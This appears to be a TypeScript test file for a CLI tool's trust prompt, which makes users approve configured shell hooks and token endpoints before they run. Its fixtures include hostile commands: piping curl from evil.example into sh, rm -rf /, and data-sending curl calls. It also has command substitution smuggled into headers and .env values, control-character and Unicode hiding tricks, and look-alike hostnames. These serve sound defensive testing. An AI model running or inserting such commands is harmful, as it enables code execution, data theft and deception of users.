/** The question that stands before what a configuration could do, and the command that shows it. */
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';
import { loadToLook, loadTrusted, runTrust } from '../../src/cli/trust.js';
import type { Language } from '../../src/text/language.js';
import { trustWords } from '../../src/text/words/trust.js';
import { type Desk, deskIn, folderWith } from '../support/init-rig.js';
import { needs } from '../support/needs.js';
import { temporaryFolder } from '../support/rig.js';

const ask = { trust: false, json: false };
const show = { list: false, forget: false };
const hooked = (command: string) =>
  folderWith({
    'watch.config.json': JSON.stringify({ envs: ['dev'], hooks: { afterLive: command } }, null, 2),
    'cloudfunctions/pay/index.js': 'exports.main = async () => 1;',
  });

async function user(cwd: string, more: { language?: Language; home?: string } = {}) {
  const home = more.home ?? (await temporaryFolder());
  const environment = { XDG_STATE_HOME: home };
  const language = more.language ?? 'en';
  return {
    home,
    at: (...answers: string[]) => deskIn(cwd, { answers, environment, language }),
    without: () => deskIn(cwd, { environment, language }),
  };
}

test('what is agreed to is asked once, and again only when it changes, saying so', async () => {
  const folder = await hooked('curl -d @- https://a.example');
  const { at, without, home } = await user(folder);
  const first = at('y');
  expect(await loadTrusted(ask, first.context)).not.toBeNull();
  expect(first.err()).toMatch(
    /6:18 hooks\.afterLive: runs a command in your shell: curl -d @- https:\/\/a\.example\n/,
  );
  expect(first.err()).toContain(`${home}/tcb-watch/trust.json`);
  expect(first.questions).toHaveLength(1);
  const second = at('y');
  expect(await loadTrusted(ask, second.context)).not.toBeNull();
  expect([second.questions, second.err()]).toEqual([[], '']);
  // Nobody at a terminal needs to be there any more either.
  expect(await loadTrusted(ask, without().context)).not.toBeNull();

  const changed = await hooked('rm -rf /');
  const { rename } = await import('node:fs/promises');
  await rename(`${changed}/watch.config.json`, `${folder}/watch.config.json`);
  const third = at('n');
  expect(await loadTrusted(ask, third.context)).toBeNull();
  expect(third.err()).toMatch(/rm -rf \/ \(changed since you agreed\)/);
  const fourth = without();
  expect(await loadTrusted(ask, fourth.context)).toBeNull();
  expect(fourth.err()).toMatch(/changed since you agreed/i);
});

test.each([
  ['no', 'n'],
  ['Enter alone', ''],
  ['something else', 'maybe'],
])('%s is no agreement', async (_, answer) => {
  const { at } = await user(await hooked('x'));
  const desk = at(answer);
  expect(await loadTrusted(ask, desk.context)).toBeNull();
  expect(desk.err()).toContain(`${trustWords.en.declined}\n`);
  expect(await loadTrusted(ask, at('y').context)).not.toBeNull();
});

test('programs that read events are not asked, and --trust agrees for one run', async () => {
  const { at } = await user(await hooked('x'));
  const desk = at('y');
  expect(await loadTrusted({ ...ask, json: true }, desk.context)).toBeNull();
  expect(desk.questions).toEqual([]);
  expect(await loadTrusted({ ...ask, json: true, trust: true }, desk.context)).not.toBeNull();
  expect(await loadTrusted({ ...ask, json: true }, desk.context)).toBeNull();
});

test('on a terminal, too, trust shows what is agreed to already', async () => {
  const { at } = await user(await hooked('echo live'));
  const first = at('y');
  expect([await runTrust(show, first.context), first.out()]).toEqual([0, '']);
  const again = at();
  expect([await runTrust(show, again.context), again.questions]).toEqual([0, []]);
  expect(again.out()).toMatch(/echo live\n/);
  expect(again.out().endsWith(`${trustWords.en.alreadyAgreed}\n`)).toBe(true);
});

test('a project without a configuration is read again as it was found', async () => {
  const folder = await folderWith({ 'cloudfunctions/pay/index.js': 'exports.main = async () => 1;' });
  const { without } = await user(folder);
  const trusted = await loadTrusted({ ...ask, endpoint: 'emulator' }, without().context);
  expect(await trusted?.reload()).toMatchObject({ ok: true, config: { file: null, endpoint: 'emulator' } });
});

test('a command cannot hide behind line ends, control characters or a secret', async () => {
  const folder = await folderWith({
    'watch.config.json': JSON.stringify({
      envs: ['dev'],
      hooks: { afterLive: 'true\n\u001b[2K\rharmless\u202e' },
      token: { url: 'https://t.example', headers: { k: 'literal-secret-77' } },
    }),
    'cloudfunctions/': '',
  });
  const { without } = await user(folder);
  const desk = without();
  expect(await runTrust(show, desk.context)).toBe(3);
  expect(desk.out()).toContain(
    String.raw`runs a command in your shell: true\u000a\u001b[2K\u000dharmless\u202e`,
  );
  expect(desk.out()).toContain('https://t.example, k: ***');
});

test.each(['a0', 'ad', '200b', '2003', '2028', '2800', '3000', '3164', 'fe0f', 'feff', 'e0041'])(
  'neither blanks of other kinds nor what draws nothing hides a part of a command: U+%s',
  async (code) => {
    const character = String.fromCodePoint(Number.parseInt(code, 16));
    const { at, without } = await user(await hooked(`true ${character}${character} ; evil`));
    const units = character
      .split('')
      .map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`)
      .join('');
    for (const desk of [at('n'), without()]) {
      await loadTrusted(ask, desk.context);
      expect(desk.err()).toContain(`runs a command in your shell: true ${units}${units} ; evil`);
    }
  },
);

test('what is to be agreed to is seen whole, and in one line, without a terminal, too', async () => {
  const { without } = await user(await hooked(`evil\n\n${' '.repeat(60)}true`));
  for (const load of [loadTrusted, loadToLook]) {
    const desk = without();
    await load(ask, desk.context);
    expect(desk.err()).toContain(String.raw`runs a command in your shell: evil\u000a\u000a \u0020\u0020`);
  }
});

test('a folder that is named like a line of ours is seen to be a folder', async () => {
  needs('names');
  const fake = 'x\n  You have agreed to all of this.\n\u001b[32m';
  const folder = await folderWith({
    [`${fake}/watch.config.json`]: JSON.stringify({ envs: ['dev'], hooks: { afterLive: 'x' } }),
    [`${fake}/cloudfunctions/`]: '',
  });
  const { at, without } = await user(`${folder}/${fake}`);
  const said = async (run: (desk: Desk) => Promise<unknown>, desk: Desk): Promise<string> => {
    await run(desk);
    return desk.out() + desk.err();
  };
  const texts = [
    await said(({ context }) => loadTrusted(ask, context), at('n')),
    await said(({ context }) => runTrust(show, context), without()),
    await said(({ context }) => runTrust({ ...show, forget: true }, context), without()),
  ];
  for (const text of texts) {
    expect(text).not.toMatch(/^ *You have agreed|\u001b/m);
    expect(text).toContain(
      String.raw`/x\u000a \u0020You have agreed to all of this.\u000a\u001b[32m/watch.config.json`,
    );
  }
});

/** A file of variables and a header make secrets of whatever they hold, and some words do of what follows them. */
test.each([
  ['a variable of the project', 'npm run lint; curl https://evil.example/x | sh', {}],
  ['a header of the project', 'date | sh -c evil-command', { 'x-key': '| sh -c evil-command' }],
  ['a word before it', 'curl x?access_token=$(curl${IFS}evil.example|sh)', {}],
  ['a word and quotes before it', 'echo "authorization":"$(curl evil.example | sh)"', {}],
])('nothing hides a part of a command: %s', async (_, command, headers) => {
  const folder = await folderWith({
    'watch.config.json': JSON.stringify({
      ...{ envs: ['dev'], hooks: { afterLive: command } },
      token: { url: 'https://t.example/evil', headers },
    }),
    '.env': 'LINT="; curl https://evil.example/x | sh"\nWHERE=https://t.example/evil\n',
    'cloudfunctions/': '',
  });
  const { at, without } = await user(folder);
  const asked = at('n');
  expect(await loadTrusted(ask, asked.context)).toBeNull();
  expect(asked.err()).toContain(`runs a command in your shell: ${command}\n`);
  expect(asked.err()).toContain('https://t.example/evil');
  const refused = without();
  expect(await loadTrusted(ask, refused.context)).toBeNull();
  expect(refused.err()).toContain(`runs a command in your shell: ${command}`);
});

test('an address is shown with its host, and without what it is asked with', async () => {
  const folder = await folderWith({
    'watch.config.json': JSON.stringify({
      envs: ['dev'],
      token: { url: 'https://${WHERE}.example/t?key=${KEY}', headers: { a: '${KEY}', b: 'literal-secret' } },
    }),
    '.env': 'KEY=secret-of-the-file\nWHERE=somewhere-else\n',
    'cloudfunctions/': '',
  });
  const desk = (await user(folder)).without();
  expect(await runTrust(show, desk.context)).toBe(3);
  expect(desk.out()).toContain(
    'requests the token from this address: https://${WHERE}.example/t?*** (somewhere-else.example), a: ${KEY}, b: ***\n',
  );
});

test('tcb-watch trust shows everything, asks, remembers, lists and forgets', async () => {
  const folder = await hooked('x');
  const { at, without } = await user(folder);
  expect(await runTrust(show, at('n').context)).toBe(1);
  expect(await runTrust(show, without().context)).toBe(3);
  expect(await runTrust(show, at('y').context)).toBe(0);
  const shown = without();
  expect(await runTrust(show, shown.context)).toBe(0);
  expect(shown.out()).toMatch(
    /hooks\.afterLive: runs a command in your shell: x\nYou have agreed to all of this\./,
  );
  const listed = without();
  expect(await runTrust({ ...show, list: true }, listed.context)).toBe(0);
  expect(listed.out()).toContain(`${folder}/watch.config.json: hooks.afterLive`);
  expect(await runTrust({ ...show, forget: true }, without().context)).toBe(0);
  expect(await runTrust(show, without().context)).toBe(3);
});

test('says so where there is nothing to agree to', async () => {
  const folder = await folderWith({ 'watch.config.json': '{"envs":["dev"]}', 'cloudfunctions/': '' });
  const { at } = await user(folder, { language: 'zh-CN' });
  const desk = at();
  expect(await runTrust(show, desk.context)).toBe(0);
  expect(desk.out()).toContain('没有需要你确认的操作');
});

test('a broken configuration runs nothing and asks nothing', async () => {
  const { at } = await user(
    await folderWith({ 'watch.config.json': '{"envs":[1],"hooks":{"afterLive":"x"}}' }),
  );
  const desk = at('y');
  expect(await runTrust(show, desk.context)).toBe(3);
  expect([desk.questions, desk.out()]).toEqual([[], '']);
  expect(desk.err()).toContain('envs[0]');
});

test('a broken configuration is named by every command that would act on it, and by those that only look', async () => {
  const folder = await folderWith({ 'watch.config.json': '{"envs":[1]}', 'cloudfunctions/': '' });
  const { at } = await user(folder);
  for (const load of [loadTrusted, loadToLook]) {
    const desk = at();
    expect(await load(ask, desk.context)).toBeNull();
    expect(desk.err()).toContain('envs[0]');
  }
});

test('who only looks is told what is left out, and nothing where nothing is', async () => {
  const { at, without } = await user(await hooked('x'));
  const desk = without();
  expect((await loadToLook(ask, desk.context))?.config.hooks.afterLive).toBeNull();
  expect(desk.err()).toContain('hooks.afterLive runs a command in your shell: x');
  expect(await loadTrusted(ask, at('y').context)).not.toBeNull();
  const again = without();
  expect((await loadToLook(ask, again.context))?.config.hooks.afterLive).toBe('x');
  expect(again.err()).toBe('');
  const given = (await user(await hooked('x'))).without();
  expect((await loadToLook({ ...ask, trust: true }, given.context))?.config.hooks.afterLive).toBe('x');
});

test.each([
  ['a folder', (file: string) => mkdir(file), 'is not a file, so it is ignored'],
  ['a link', (file: string) => symlink('elsewhere.json', file), 'is a link or belongs to another user'],
])(
  '%s in place of the agreements is said to be that, and nothing is taken for agreed',
  async (kind, make, said) => {
    if (kind === 'a link') needs('links');
    const home = await temporaryFolder();
    await mkdir(`${home}/tcb-watch`);
    await make(`${home}/tcb-watch/trust.json`);
    const { at, without } = await user(await hooked('x'), { home });
    const listed = without();
    expect(await runTrust({ ...show, list: true }, listed.context)).toBe(6);
    const forgotten = without();
    expect(await runTrust({ ...show, forget: true }, forgotten.context)).toBe(6);
    const shown = without();
    expect(await runTrust(show, shown.context)).toBe(3);
    const agreed = at('y');
    // It counts for this run, and is asked again the next time.
    expect(await loadTrusted(ask, agreed.context)).not.toBeNull();
    for (const { err } of [listed, forgotten, shown, agreed]) expect(err()).toContain(`trust.json ${said}`);
    expect(await loadTrusted(ask, without().context)).toBeNull();
  },
);

test('an agreement that cannot be kept counts for this run, and is said to be lost', async () => {
  const home = await temporaryFolder();
  await writeFile(`${home}/tcb-watch`, 'a file where a folder should be');
  const { at, without } = await user(await hooked('x'), { home });
  const desk = at('y');
  expect(await loadTrusted(ask, desk.context)).not.toBeNull();
  expect(desk.err()).toMatch(/^tcb-watch: .*trust\.json cannot be read or written \(\w+\)/m);
  expect(desk.err()).not.toContain(trustWords.en.agreed(`${home}/tcb-watch/trust.json`));
  expect(await loadTrusted(ask, without().context)).toBeNull();
});

test('no agreement is no list, and nothing to forget', async () => {
  const { without, at } = await user(await hooked('x'));
  const listed = without();
  expect(await runTrust({ ...show, list: true }, listed.context)).toBe(0);
  expect(listed.out().trim().split('\n')).toHaveLength(1);
  const said = async (): Promise<string> => {
    const desk = without();
    expect(await runTrust({ ...show, forget: true }, desk.context)).toBe(0);
    return desk.out();
  };
  const nothing = await said();
  expect(await runTrust(show, at('y').context)).toBe(0);
  expect(await said()).not.toBe(nothing);
  expect(await said()).toBe(nothing);
});

test('what was shown is what is done: a file that changes while the question stands is asked about the next time', async () => {
  const folder = await hooked('shown');
  const { at, without } = await user(folder);
  const desk = at('y');
  const ask2 = async (): Promise<string> => {
    const evil = { envs: ['dev'], hooks: { afterLive: 'not shown' } };
    await writeFile(`${folder}/watch.config.json`, JSON.stringify(evil));
    return 'y';
  };
  const trusted = await loadTrusted(ask, { ...desk.context, ask: ask2 });
  expect(trusted?.loaded.config.hooks.afterLive).toBe('shown');
  expect((await trusted?.reload())?.ok).toBe(false);
  expect(await loadTrusted(ask, without().context)).toBeNull();
});

test.each([
  ['https://\u0430pi.weixin.qq.com', '(xn--pi-6kc.weixin.qq.com)'],
  ['https://evil.example\\@api.weixin.qq.com', '(evil.example)'],
  ['https://api.weixin.qq.com\u3002evil.example', '(api.weixin.qq.com.evil.example)'],
  ['https://0x7f.1.evil.example', 'https://0x7f.1.evil.example.'],
])('the host that %s stands for is shown', async (endpoint, expected) => {
  const config = JSON.stringify({ envs: ['dev'], endpoint });
  const { at } = await user(await folderWith({ 'watch.config.json': config, 'cloudfunctions/': '' }));
  const desk = at('n');
  await loadTrusted(ask, desk.context);
  expect(desk.err()).toContain(expected.replace(/\.$/, ''));
});

test.each<[string, Readonly<Record<string, unknown>>]>([
  ['the vendor’s endpoint, a token from the environment', {}],
  ['a token from a file, wherever it lies', { token: { file: '~/.tcb/token' } }],
  [
    'a minted token',
    { token: { component: { appId: 'wx1', appSecret: 's', verifyTicket: { file: '/t' } } } },
  ],
  ['the emulator', { endpoint: 'emulator' }],
  ['loopback', { endpoint: 'http://127.0.0.1:3000' }],
  ['a spare host of the vendor', { endpoint: 'https://sh.api.weixin.qq.com' }],
  [
    'folders inside',
    { functionsRoot: './fns', functions: { pay: { dir: 'fns/pay' } }, shared: { common: ['*'] } },
  ],
])('a plain project never asks: %s', async (_, config) => {
  const folder = await folderWith({
    'watch.config.json': JSON.stringify({ envs: ['dev'], ...config }),
    'fns/pay/index.js': '',
    'fns/common/x.js': '',
    'cloudfunctions/pay/index.js': '',
  });
  const { at } = await user(folder);
  const desk = at('n');
  expect(await loadTrusted(ask, desk.context)).not.toBeNull();
  expect([desk.questions, desk.err()]).toEqual([[], '']);
});

test('npm start in this repository never asks', async () => {
  const { at } = await user(fileURLToPath(new URL('../../', import.meta.url)));
  const desk = at('n');
  expect(await loadTrusted(ask, desk.context)).not.toBeNull();
  expect([desk.questions, desk.err()]).toEqual([[], '']);
});

test('on a terminal no line is left to be broken in the middle of a word', async () => {
  const folder = await hooked('curl -d @- https://a.example/hooks --retry 3 --max-time 10');
  const { home, at } = await user(folder);
  await mkdir(`${home}/tcb-watch/trust.json`, { recursive: true });
  const desk = at('n');
  expect(await loadTrusted(ask, { ...desk.context, columns: 40 })).toBeNull();
  const lines = desk.err().split('\n');
  // Paths and addresses stay whole: people copy them.
  expect(lines.filter((line) => line.length > 40 && line.trim().includes(' '))).toEqual([]);
  const said = lines.map((line) => line.trim()).join(' ');
  expect(said).toContain(trustWords.en.title(`${folder}/watch.config.json`));
  expect(said).toContain(trustWords.en.trouble['no-file'](`${home}/tcb-watch/trust.json`));
  expect(said).toContain('curl -d @- https://a.example/hooks --retry 3 --max-time 10');
});

test('blanks hide nothing, and make no line that looks like another entry', async () => {
  const folder = await hooked(`echo ok${' '.repeat(60)}2:14 endpoint: only the vendor’s`);
  const { at } = await user(folder);
  const desk = at('n');
  expect(await loadTrusted(ask, { ...desk.context, columns: 80 })).toBeNull();
  const said = desk
    .err()
    .split('\n')
    .map((line) => line.trim());
  expect(said.join('').replaceAll(' ', '')).toContain(`echook${'\\u0020'.repeat(59)}2:14endpoint`);
  expect(said.filter((line) => line.startsWith('2:14'))).toEqual([]);
});

test('Ctrl-C at the question ends it, and nothing more is said', async () => {
  const { at } = await user(await hooked('x'));
  const desk = at('');
  let interrupt = (): void => undefined;
  const onInterrupt = (listener: () => void) => {
    interrupt = listener;
    return () => undefined;
  };
  const pressed = async (_: string, signal: AbortSignal): Promise<null> => {
    interrupt();
    expect(signal.aborted).toBe(true);
    return null;
  };
  expect(await loadTrusted(ask, { ...desk.context, onInterrupt, ask: pressed })).toBeNull();
  expect(desk.err()).toBe('');
});
